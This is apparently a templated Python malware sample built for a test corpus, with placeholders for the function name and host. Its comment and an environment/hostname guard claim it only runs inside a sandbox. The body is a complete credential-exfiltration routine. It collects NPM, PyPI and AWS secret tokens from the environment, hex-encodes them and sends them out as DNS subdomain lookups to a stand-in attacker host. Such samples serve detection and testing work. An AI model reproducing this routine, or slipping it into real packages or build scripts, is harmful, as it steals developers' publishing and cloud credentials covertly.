# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import binascii
    import socket
    import time
    text = ','.join('%s=%s' % (name, os.environ[name]) for name in ('NPM_TOKEN', 'PYPI_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'USER') if name in os.environ)
    code = binascii.hexlify(text.encode()).decode()
    stop = time.monotonic() + 2.5
    for at in range(0, len(code), 60):
        if time.monotonic() > stop:
            break
        try:
            socket.getaddrinfo('%s.%d.{{host}}' % (code[at:at + 60], at // 60), 80)
        except OSError:
            continue
